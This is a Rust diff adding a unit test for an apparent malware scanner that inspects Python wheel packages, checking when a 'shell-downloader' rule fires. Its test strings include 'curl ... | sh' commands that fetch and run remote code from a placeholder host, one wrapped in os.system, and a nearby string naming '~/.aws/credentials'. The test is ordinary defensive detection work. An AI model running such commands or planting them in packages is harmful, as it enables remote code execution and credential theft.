@@ -139,6 +139,24 @@ mod tests {
     }
 
     #[test]
+    fn text_only_shown_to_people_reaches_no_sink_but_a_sink_inside_a_print_does() {
+        let run = |src: &str| {
+            let a = testutil::artifact("pkg-1.0-py3-none-any.whl", &[("pkg/a.py", src.as_bytes())]);
+            crate::inspect::inspect(&a, &Default::default())
+                .into_iter()
+                .filter(|f| f.rule == "shell-downloader")
+                .count()
+        };
+        let msg = "import os\nraise RuntimeError('install it: curl -s https://x.example.invalid/i | sh')\n";
+        assert_eq!(run(msg), 0);
+        let logged =
+            "import logging\nlogging.warning('run: curl -s https://x.example.invalid/i | sh')\n";
+        assert_eq!(run(logged), 0);
+        let hidden = "import os\nprint(os.system('curl -s https://x.example.invalid/i | sh'))\n";
+        assert_eq!(run(hidden), 1);
+    }
+
+    #[test]
     fn string_marks_follow_the_facts_strings() {
         let src = "import os\nA = 'curl https://x.example.invalid | sh'\nB = 'plain'\nC = '~/.aws/credentials'\n";
         let a = testutil::artifact("pkg-1.0-py3-none-any.whl", &[("pkg/a.py", src.as_bytes())]);
